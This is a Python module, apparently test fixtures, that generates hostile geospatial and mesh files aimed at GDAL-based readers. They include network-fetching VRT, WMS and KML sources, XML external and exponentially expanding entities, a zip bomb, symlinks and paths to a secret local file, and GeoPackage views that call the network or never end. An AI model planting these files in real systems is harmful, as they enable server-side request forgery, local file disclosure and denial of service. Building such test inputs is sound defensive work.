"""Files of strangers that would lead a reader to other files, into the net, or to no end."""

from __future__ import annotations

import json
import sqlite3
import zipfile
from html import escape
from pathlib import Path

KINDS = ("gpkg", "shp", "fgb", "dxf", "kml", "kmz")
SPATIAL = """
CREATE TABLE gpkg_spatial_ref_sys(srs_name TEXT,srs_id INTEGER PRIMARY KEY,organization TEXT,
 organization_coordsys_id INTEGER,definition TEXT,description TEXT);
INSERT INTO gpkg_spatial_ref_sys VALUES('u',-1,'NONE',-1,'undefined','');
CREATE TABLE gpkg_contents(table_name TEXT PRIMARY KEY,data_type TEXT,identifier TEXT,
 description TEXT,last_change TEXT,min_x REAL,min_y REAL,max_x REAL,max_y REAL,srs_id INTEGER);
CREATE TABLE gpkg_geometry_columns(table_name TEXT,column_name TEXT,geometry_type_name TEXT,
 srs_id INTEGER,z TINYINT,m TINYINT);
INSERT INTO gpkg_contents VALUES('t','features','t','','2020-01-01T00:00:00Z',0,0,1,1,-1);
INSERT INTO gpkg_geometry_columns VALUES('t','geom','POLYGON',-1,0,0);
PRAGMA application_id=1196444487; PRAGMA user_version=10300;
"""
KML = '<kml xmlns="http://www.opengis.net/kml/2.2"><Document>{}</Document></kml>'
PLACE = "<Placemark><Point><coordinates>0,0,1</coordinates></Point></Placemark>"


def vrt(source: str, *, relative: int = 0, band: str = "", more: str = "") -> str:
    """A VRT of 4 by 4 cells with one source."""
    return (
        '<VRTDataset rasterXSize="4" rasterYSize="4"><GeoTransform>0,1,0,4,0,-1</GeoTransform>'
        f'{more}<VRTRasterBand dataType="Float32" band="1"{band}><SimpleSource>'
        f'<SourceFilename relativeToVRT="{relative}">{source}</SourceFilename>'
        '<SourceBand>1</SourceBand><SrcRect xOff="0" yOff="0" xSize="4" ySize="4"/>'
        '<DstRect xOff="0" yOff="0" xSize="4" ySize="4"/></SimpleSource></VRTRasterBand></VRTDataset>'
    )


def descriptions(url: str, secret: Path) -> dict[str, str]:
    """What drivers of GDAL take for a link to elsewhere, whatever the name of the file."""
    stream = "gdal vector pipeline ! read {} ! write --of=stream streamed"
    layer = f'<OGRVRTLayer name="secret"><SrcDataSource>{secret}</SrcDataSource></OGRVRTLayer>'
    ring = {"rel": "items", "href": f"{url}/items"}
    texts = {
        "gdalg": {"type": "gdal_streamed_alg", "command_line": stream.format(secret)},
        "gdalgnet": {
            "type": "gdal_streamed_alg",
            "command_line": stream.format(f"/vsicurl/{url}/x.geojson"),
        },
        "oapif": {
            "links": [{"rel": "data", "href": f"{url}/c"}],
            "collections": [{"links": [ring]}],
        },
        "next": {
            "type": "FeatureCollection",
            "features": [],
            "links": [{"rel": "next", "href": url}],
        },
    }
    return {name: json.dumps(text) for name, text in texts.items()} | {
        "wfs": f"<OGRWFSDataSource><URL>{url}/wfs</URL></OGRWFSDataSource>",
        "csw": f"<OGRCSWDataSource><URL>{url}/csw</URL></OGRCSWDataSource>",
        "ogrvrt": f"<!-- {'x' * 5000} --><OGRVRTDataSource>{layer}</OGRVRTDataSource>",
    }


def write_vectors(folder: Path, url: str, secret: Path) -> list[Path]:
    """Lines and polygons that lead elsewhere."""
    paths = []
    for name, text in descriptions(url, secret).items():
        for kind in KINDS:
            paths.append(folder / f"{name}.{kind}")
            if kind == "kmz":
                with zipfile.ZipFile(paths[-1], "w") as packed:
                    packed.writestr("doc.kml", text)
            else:
                paths[-1].write_text(text)
    network = f"<NetworkLink><Link><href>{url}/n.kml</href></Link></NetworkLink>{PLACE}"
    entity = f'<!DOCTYPE k [<!ENTITY x SYSTEM "{url}/dtd">]>'
    growing = "".join(
        f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefgh", "bcdefghi", strict=True)
    )
    for name, text in {
        "network.kml": KML.format(network),
        "entity.kml": entity + KML.format(f"<name>&x;</name>{PLACE}"),
        "growing.kml": f'<!DOCTYPE k [<!ENTITY a "a">{growing}]>' + KML.format("<name>&i;</name>"),
    }.items():
        paths.append(folder / name)
        paths[-1].write_text(text)
    return paths + _write_packed(folder, network) + _write_databases(folder, url, secret)


def _write_packed(folder: Path, network: str) -> list[Path]:
    contents = {"network.kmz": KML.format(network), "bomb.kmz": KML.format("A" * 200_000_000)}
    for name, text in contents.items():
        with zipfile.ZipFile(folder / name, "w", zipfile.ZIP_DEFLATED) as packed:
            packed.writestr("doc.kml", text)
    return [folder / name for name in contents]


def _write_databases(folder: Path, url: str, secret: Path) -> list[Path]:
    """GeoPackages that compute when they are read."""
    view = "CREATE VIEW t AS SELECT 1 AS OGC_FID, {} AS n, NULL AS geom;"
    virtual = (
        "PRAGMA writable_schema=1; INSERT INTO sqlite_master(type,name,tbl_name,rootpage,sql) "
        "VALUES('table','t','t',0,'CREATE VIRTUAL TABLE t USING VirtualOGR(''{}'')');"
    )
    texts = {
        "endless": "CREATE VIEW t AS WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x+1 FROM c) "
        "SELECT x AS OGC_FID, NULL AS geom FROM c;",
        "large": view.format("zeroblob(900000000)"),
        "geocode": view.format(f"ogr_geocode('a','geometry','{url}/q')"),
        "layer": view.format(f"ogr_layer_FeatureCount('{secret}','secret')"),
        "pixel": view.format(f"gdal_get_pixel_value('/vsicurl/{url}/x.tif',1,'georef',0,0)"),
        "virtual": virtual.format(secret),
        "computed": "CREATE TABLE t(fid INTEGER PRIMARY KEY, geom BLOB, n TEXT GENERATED ALWAYS AS "
        "(zeroblob(900000000)) VIRTUAL); INSERT INTO t(fid) VALUES(1);",
    }
    for name, text in texts.items():
        base = sqlite3.connect(folder / f"{name}.gpkg")
        base.executescript(SPATIAL + text)
        base.close()
    return [folder / f"{name}.gpkg" for name in texts]


def write_rasters(folder: Path, url: str, secret: Path) -> list[Path]:
    """Grids that lead elsewhere."""
    wms = escape(f"<GDAL_WMS><Service name='TMS'><ServerUrl>{url}</ServerUrl></Service></GDAL_WMS>")
    sources = {
        "curl": f"/vsicurl/{url}/a.tif", "none": f"/vsicurl/{url}/a.none",
        "stream": f"/vsicurl_streaming/{url}/a.tif", "query": f"/vsicurl?url={url}/a.none",
        "http": f"{url}/a.tif", "inline": wms, "wms": f"WMS:{url}/wms", "wcs": f"WCS:{url}/wcs",
        "wmts": f"WMTS:{url}/wmts", "zip": f"/vsizip//vsicurl/{url}/a.zip/x.tif",
        "s3": "/vsis3/bucket/key", "stacta": f"STACTA:{url}/x.json", "absolute": str(secret),
    }  # fmt: skip
    (folder / "inner.tif").write_text(vrt(f"/vsicurl/{url}/b.tif"))
    (folder / "link.tif").symlink_to(secret)
    texts = {f"{name}.vrt": vrt(source) for name, source in sources.items()} | {
        "relative.vrt": vrt(f"/vsicurl/{url}/a.tif", relative=1),
        "up.vrt": vrt(f"../{secret.name}", relative=1),
        "symlink.vrt": vrt("link.tif", relative=1),
        "nested.vrt": vrt("inner.tif", relative=1),
        "itself.vrt": vrt("itself.vrt", relative=1),
        "raw.vrt": vrt(str(secret), band=' subClass="VRTRawRasterBand"'),
        "code.vrt": vrt("a.tif", relative=1, band=' subClass="VRTDerivedRasterBand"'),
        "warped.vrt": vrt("a.tif", relative=1, more=f"<GDALWarpOptions>{url}</GDALWarpOptions>"),
        "entity.vrt": f'<!DOCTYPE k [<!ENTITY x SYSTEM "{url}/dtd">]>' + vrt("&x;", relative=1),
        "y.tif": vrt(f"/vsicurl/{url}/a.tif"),
        "wms.tif": f"<GDAL_WMS><Service name='TMS'><ServerUrl>{url}</ServerUrl></Service></GDAL_WMS>",
        "wms.grd": f"<GDAL_WMS><Service name='TMS'><ServerUrl>{url}</ServerUrl></Service></GDAL_WMS>",
        "wms.asc": f"<GDAL_WMS><Service name='TMS'><ServerUrl>{url}</ServerUrl></Service></GDAL_WMS>",
    }
    for name, text in texts.items():
        (folder / name).write_text(text)
    return [folder / name for name in texts]


def write_meshes(folder: Path, url: str, secret: Path) -> list[Path]:
    """Meshes that name other files."""
    grid = (
        '<Xdmf Version="3.0"><Domain><Grid><Geometry GeometryType="XYZ"><DataItem DataType="Float" '
        f'Dimensions="4 3" Format="HDF">{secret}:/points</DataItem></Geometry></Grid></Domain></Xdmf>'
    )
    entity = f'<?xml version="1.0"?><!DOCTYPE k [<!ENTITY x SYSTEM "{url}/dtd">]>'
    texts = {
        "other.xdmf": grid,
        "net.xdmf": grid.replace(str(secret), f"{url}/a.h5"),
        "include.inp": f"*INCLUDE, INPUT={secret}\n",
        "entity.vtu": entity + "<VTKFile>&x;</VTKFile>",
        "entity.xml": entity + "<dolfin>&x;</dolfin>",
    }
    for name, text in texts.items():
        (folder / name).write_text(text)
    return [folder / name for name in texts]
